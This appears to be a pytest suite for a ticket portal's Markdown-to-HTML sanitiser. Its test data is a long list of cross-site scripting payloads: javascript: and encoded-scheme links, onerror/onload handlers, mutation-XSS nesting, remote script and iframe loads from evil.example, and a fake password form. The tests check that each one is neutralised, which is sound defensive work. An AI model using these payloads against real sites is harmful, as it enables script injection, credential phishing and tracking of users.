"""portal.content: user Markdown becomes HTML that cannot run script or load foreign content."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from portal.content import _sanitize, markdown_to_text, render_markdown, render_stored, resolve_attachment_urls

PREFIX = "/tickets/12/attachments/"
PREFIXES = (PREFIX,)

# The policy, written out here on its own rather than imported, so a change to it shows up here.
TAGS = {
    "p",
    "br",
    "strong",
    "em",
    "del",
    "s",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "a",
    "img",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
}
ATTRIBUTES = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "title"},
    "ol": {"start"},
    "th": {"align"},
    "td": {"align"},
}
REL = "nofollow noopener noreferrer"


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.oddities: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_startendtag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    def handle_endtag(self, tag):
        if tag not in TAGS:
            self.oddities.append(f"</{tag}>")

    def handle_comment(self, data):
        self.oddities.append(f"<!--{data}-->")

    def handle_decl(self, decl):
        self.oddities.append(f"<!{decl}>")

    def handle_pi(self, data):
        self.oddities.append(f"<?{data}>")

    def unknown_decl(self, data):
        self.oddities.append(f"<![{data}]>")


def _squash(value: str) -> str:
    """What a browser would make of a URL's scheme: no whitespace or controls, lower case."""
    return re.sub(r"[\x00-\x20\x7f]+", "", value).lower()


def assert_safe(output: str, prefixes: tuple[str, ...] = PREFIXES, *, strict: bool = True) -> list[tuple[str, dict]]:
    """Structural check of rendered HTML against the policy; returns the parsed elements.

    strict: no script-ish scheme anywhere in any attribute value, even in a harmless title
    (the fixed payloads); otherwise (generated input) only URL attributes are judged.
    """
    parser = _Collector()
    parser.feed(output)
    parser.close()
    assert not parser.oddities, (parser.oddities, output)
    for tag, attrs in parser.elements:
        assert tag in TAGS, (tag, output)
        assert set(attrs) <= ATTRIBUTES.get(tag, set()), (tag, attrs, output)
        for name, value in attrs.items():
            assert not name.startswith("on"), (name, output)
            if strict:
                squashed = _squash(value or "")
                for scheme in ("javascript:", "vbscript:", "data:", "file:"):
                    assert scheme not in squashed, (tag, name, value, output)
        if tag == "a":
            assert attrs.get("rel") == REL, output
            href = attrs.get("href")
            if href is not None:
                scheme = re.match(r"([a-z][a-z0-9+.\-]*):", _squash(href))
                if scheme:
                    assert scheme.group(1) in ("http", "https", "mailto"), (href, output)
                else:
                    assert href.startswith(prefixes), (href, output)
        if tag == "img":
            src = attrs.get("src")
            assert src and src.startswith(prefixes), (attrs, output)
            assert ".." not in src.split("?")[0]
    lowered = output.lower()
    for needle in (
        "<script",
        "<iframe",
        "<svg",
        "<style",
        "<form",
        "<input",
        "<math",
        "<object",
        "<embed",
        "<details",
        "<base",
        "<meta",
        "<link",
    ):
        assert needle not in lowered, (needle, output)
    # nh3 always double-quotes attribute values: with them and the text between tags removed,
    # an event handler attribute would still show.
    tags_only = re.sub(r'"[^"]*"', '""', re.sub(r">[^<]*<", "><", output))
    assert not re.search(r"\son\w+\s*=", tags_only), output
    return parser.elements


XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1))",
    "[x](  javascript:alert(1)  )",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.png)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    '<a href="javascript:alert(1)">x</a>',
    "<iframe src=https://evil.example></iframe>",
    "<svg onload=alert(1)>",
    "<style>body{display:none}</style>",
    "<form action=https://evil.example><input name=password></form>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '[x](https://ok.example "title" onmouseover="alert(1)")',
    '[x](https://ok.example "\\"onmouseover=\\"alert(1)")',
    "[x](https://ok.example 'a\" onmouseover=\"alert(1)')",
    '![x](/tickets/12/attachments/1/a.png "\\" onerror=\\"alert(1)")',
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[[x](javascript:alert(1))](https://ok.example)",
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    '[x][ref]\n\n[ref]: https://ok.example "t\\" onclick=\\"alert(1)"',
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<base href=https://evil.example/>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<object data=evil.swf></object><embed src=evil.swf>",
    "```html\n<script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "<a href='x' style='position:fixed' class='c' id='i'>x</a>",
    "[x](/tickets/12/attachments/../../logout)",
    "![x](/tickets/12/attachments/%2e%2e/%2e%2e/logout)",
    "![x](//evil.example/tickets/12/attachments/a.png)",
]


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payloads_are_neutralised(payload):
    output = render_markdown(payload, attachment_url_prefixes=PREFIXES)
    assert_safe(output)
    # Without any attachment prefix no image can come through at all.
    elements = assert_safe(render_markdown(payload), prefixes=())
    assert "img" not in {tag for tag, _ in elements}


def test_raw_html_is_shown_as_text():
    assert render_markdown("<b>hi</b>") == "<p>&lt;b&gt;hi&lt;/b&gt;</p>"
    assert render_markdown("<script>alert(1)</script>") == "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"


def test_dangerous_link_keeps_no_href():
    for payload in ("[x](javascript:alert(1))", "[x](java&#x09;script:alert(1))", "[x](vbscript:msgbox(1))"):
        elements = assert_safe(render_markdown(payload))
        assert all("href" not in attrs for _, attrs in elements), payload


def test_remote_image_becomes_its_alt_text():
    assert render_markdown("![a <b> & c](https://evil.example/track.png)") == "<p>a &lt;b&gt; &amp; c</p>"
    assert render_markdown("![](https://evil.example/track.png)") == "<p></p>"


def test_attachment_image_is_kept_only_under_the_prefix():
    source = f'![screenshot]({PREFIX}7/screen.png "Login page")'
    kept = render_markdown(source, attachment_url_prefixes=PREFIXES)
    elements = assert_safe(kept)
    assert ("img", {"src": f"{PREFIX}7/screen.png", "alt": "screenshot", "title": "Login page"}) in elements
    dropped = render_markdown(source)
    assert "<img" not in dropped and "screenshot" in dropped
    other_ticket = render_markdown("![s](/tickets/13/attachments/7/screen.png)", attachment_url_prefixes=PREFIXES)
    assert other_ticket == "<p>s</p>"
    assert (
        render_markdown(f"![s]({PREFIX}../../13/attachments/1/x.png)", attachment_url_prefixes=PREFIXES) == "<p>s</p>"
    )
    # A bare string is one prefix, not a tuple of one-character prefixes such as "/".
    assert render_markdown("![s](/elsewhere.png)", attachment_url_prefixes=PREFIX) == "<p>s</p>"  # type: ignore[arg-type]
    assert "<img" in render_markdown(f"![s]({PREFIX}1/a.png)", attachment_url_prefixes=PREFIX)  # type: ignore[arg-type]


def test_links():
    https = assert_safe(render_markdown("[docs](https://example.com/a?b=1&c=2)"))
    assert ("a", {"href": "https://example.com/a?b=1&c=2", "rel": REL}) in https
    mail = assert_safe(render_markdown("[write](mailto:help@example.com) or <help@example.com>"))
    assert [attrs["href"] for tag, attrs in mail if tag == "a"] == ["mailto:help@example.com"] * 2
    autolink = assert_safe(render_markdown("<https://example.com>"))
    assert ("a", {"href": "https://example.com", "rel": REL}) in autolink
    titled = assert_safe(render_markdown('[x](https://example.com "Hover me")'))
    assert ("a", {"href": "https://example.com", "title": "Hover me", "rel": REL}) in titled


def test_relative_links_only_to_attachments():
    elsewhere = render_markdown("[admin](/back/users)", attachment_url_prefixes=PREFIXES)
    assert elsewhere == f'<p><a rel="{REL}">admin</a></p>'
    ours = assert_safe(render_markdown(f"[log]({PREFIX}3/log.txt)", attachment_url_prefixes=PREFIXES))
    assert ("a", {"href": f"{PREFIX}3/log.txt", "rel": REL}) in ours
    assert "href" not in render_markdown(f"[log]({PREFIX}3/log.txt)")
    assert "href" not in render_markdown("[x](#top)")
    assert "href" not in render_markdown("[x](//evil.example/)", attachment_url_prefixes=PREFIXES)


def test_block_and_inline_formatting():
    source = (
        "# Title\n\n### Sub\n\nSome **bold**, *em*, ~~gone~~ and `code`.\n"
        "Next line\n\n> quoted\n\n- one\n- two\n\n3. three\n4. four\n\n---\n"
    )
    output = render_markdown(source)
    tags = [tag for tag, _ in assert_safe(output)]
    for tag in ("h1", "h3", "strong", "em", "s", "code", "br", "blockquote", "ul", "li", "ol", "hr"):
        assert tag in tags, tag
    assert '<ol start="3">' in output
    assert "Some <strong>bold</strong>, <em>em</em>, <s>gone</s> and <code>code</code>.<br>" in output


def test_code_block_content_is_escaped():
    output = render_markdown("```python\nprint('<b>hi</b>') & x\n```")
    assert output == "<pre><code>print('&lt;b&gt;hi&lt;/b&gt;') &amp; x\n</code></pre>"
    assert render_markdown("    <b>indented</b>") == "<pre><code>&lt;b&gt;indented&lt;/b&gt;\n</code></pre>"


def test_tables_keep_alignment_as_attribute():
    output = render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
    elements = assert_safe(output)
    assert ("th", {"align": "left"}) in elements
    assert ("td", {"align": "center"}) in elements
    assert ("td", {"align": "right"}) in elements
    assert "style" not in output and {"table", "thead", "tbody", "tr"} <= {tag for tag, _ in elements}


def test_sanitiser_layer_on_its_own():
    """Defence in depth: even HTML the Markdown layer would never emit is cleaned."""
    cleaned = _sanitize(
        '<a href="javascript:alert(1)" onclick="x" style="x" class="c" id="i">a</a>'
        '<img src="https://evil.example/x.png" alt="pixel" onerror="x">'
        f'<img src="{PREFIX}1/x.png" alt="ok">'
        '<script>alert(1)</script><style>p{}</style><iframe src="x"></iframe><div>text</div>'
        '<th align="javascript:x">h</th><ol start="1 onclick=x"><li>i</li></ol>',
        PREFIXES,
    )
    assert_safe(cleaned)
    assert "alert(1)" not in cleaned and "p{}" not in cleaned and "text" in cleaned
    assert "<img alt" not in cleaned and "pixel" in cleaned  # the foreign image became its alt text
    assert f'src="{PREFIX}1/x.png"' in cleaned


def test_empty_and_whitespace():
    assert render_markdown("") == ""
    assert render_markdown("   \n\n  ") == ""


def test_markdown_to_text_is_the_source():
    assert markdown_to_text("**hi**\r\nthere") == "**hi**\nthere"


def test_rendering_is_fast_enough():
    paragraph = (
        "Since the upgrade I cannot open the **invoices** page: it shows a blank screen, then "
        "an *error*. The log says `timeout after 30s` and the [status page](https://status.example.com) "
        "is green. Our account is 12345.\n\n"
    )
    source = (paragraph * 100)[:20_000]
    render_markdown(source)
    started = time.perf_counter()
    render_markdown(source)
    # markdown-it-py is pure Python: this guards against pathological slowness, not for 5 ms.
    assert time.perf_counter() - started < 0.5


MARKDOWNISH = st.lists(
    st.one_of(
        st.sampled_from(
            [
                "<",
                ">",
                "[",
                "]",
                "(",
                ")",
                "!",
                "*",
                "_",
                "`",
                "~",
                "#",
                "-",
                "|",
                ":",
                '"',
                "'",
                "=",
                "&",
                ";",
                "\\",
                "/",
                " ",
                "\n",
                "\t",
                "&#x09;",
                "&#106;",
                "javascript:",
                "JaVaScRiPt:",
                "vbscript:",
                "data:",
                "https://x.example/",
                "mailto:a@b.c",
                PREFIX,
                "../",
                "%2e%2e/",
                "<script>",
                "<img src=x ",
                " onerror=",
                ' onmouseover="',
                "<svg>",
                "<iframe>",
                "<style>",
                "<a href=",
                "![",
                "](",
                "```",
                "    ",
                "> ",
                "1. ",
                "- ",
                "| --- |",
                "<!--",
                "-->",
                "<![CDATA[",
                "alert(1)",
            ]
        ),
        st.text(max_size=8),
    ),
    max_size=40,
).map("".join)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(source=MARKDOWNISH)
def test_property_markdownish_input_stays_safe(source):
    assert_safe(render_markdown(source, attachment_url_prefixes=PREFIXES), strict=False)


@settings(max_examples=150, deadline=None)
@given(source=st.text(max_size=300))
def test_property_arbitrary_text_stays_safe(source):
    assert_safe(render_markdown(source, attachment_url_prefixes=PREFIXES), strict=False)


# --- stored references and their resolution for a viewer -----------------------------------------

STORE_PREFIXES = (PREFIX, "/back/tickets/12/attachments/")
VIEWER_BASES = ("/tickets/12", "/t/AbC-123_xyz", "/back/tickets/12")


def test_stored_html_holds_references_not_urls():
    stored = render_stored(
        f'![shot]({PREFIX}7 "Login") [log](/back/tickets/12/attachments/3/log.txt) [docs](https://example.com/a?b=1&c=2)',
        attachment_url_prefixes=STORE_PREFIXES,
    )
    assert stored == (
        '<p><img src="attachment:7" alt="shot" title="Login"> '
        f'<a href="attachment:3" rel="{REL}">log</a> '
        f'<a href="https://example.com/a?b=1&amp;c=2" rel="{REL}">docs</a></p>'
    )
    # Under a prefix but naming no attachment: nothing of it is stored (the image becomes its alt).
    assert render_stored(f"![s]({PREFIX}abc) [l]({PREFIX})", attachment_url_prefixes=STORE_PREFIXES) == (
        f'<p>s <a rel="{REL}">l</a></p>'
    )
    # Another ticket's attachments and the stored form itself typed by hand are refused as before.
    assert render_stored("![s](/tickets/13/attachments/7)", attachment_url_prefixes=STORE_PREFIXES) == "<p>s</p>"
    assert render_stored("![s](attachment:7)", attachment_url_prefixes=STORE_PREFIXES) == "<p>s</p>"
    assert render_stored("**hi**", attachment_url_prefixes=()) == render_markdown("**hi**")


@pytest.mark.parametrize("base", VIEWER_BASES)
def test_references_resolve_to_the_viewers_route(base):
    stored = render_stored(f"![shot]({PREFIX}7) and [log]({PREFIX}3)", attachment_url_prefixes=STORE_PREFIXES)
    assert resolve_attachment_urls(stored, base) == (
        f'<p><img src="{base}/attachments/7" alt="shot"> and <a href="{base}/attachments/3" rel="{REL}">log</a></p>'
    )


@pytest.mark.parametrize("base", VIEWER_BASES)
def test_urls_stored_before_references_resolve_too(base):
    """Old messages have the customer-page URL of the ticket they were written on, which may be a
    ticket since merged into another: only the attachment id counts."""
    legacy = (
        '<p><img src="/tickets/12/attachments/7/screen.png" alt="a" title="x > y">'
        f'<a href="/tickets/99/attachments/8" rel="{REL}">b</a>'
        f'<a href="/tickets/12/attachments/" rel="{REL}">c</a></p>'
    )
    assert resolve_attachment_urls(legacy, base) == (
        f'<p><img src="{base}/attachments/7" alt="a" title="x > y">'
        f'<a href="{base}/attachments/8" rel="{REL}">b</a>'
        f'<a href="/tickets/12/attachments/" rel="{REL}">c</a></p>'
    )


def test_resolution_touches_only_link_and_image_urls():
    prose = render_markdown('src="attachment:5" and `<img src="attachment:4">` and [x](https://e.example/attachment:1)')
    assert resolve_attachment_urls(prose, "/t/x") == prose
    assert resolve_attachment_urls("<p>no files</p>", "/t/x") == "<p>no files</p>"
    # The base is escaped like any attribute value.
    assert (
        resolve_attachment_urls('<img src="attachment:1" alt="">', '/t/"x')
        == '<img src="/t/&quot;x/attachments/1" alt="">'
    )


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_stored_and_resolved_payloads_stay_safe(payload):
    stored = render_stored(payload, attachment_url_prefixes=STORE_PREFIXES)
    for base in VIEWER_BASES:
        assert_safe(resolve_attachment_urls(stored, base), prefixes=(f"{base}/attachments/",))


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(source=MARKDOWNISH)
def test_property_stored_then_resolved_stays_safe(source):
    stored = render_stored(source, attachment_url_prefixes=STORE_PREFIXES)
    assert_safe(resolve_attachment_urls(stored, "/t/tok"), prefixes=("/t/tok/attachments/",), strict=False)
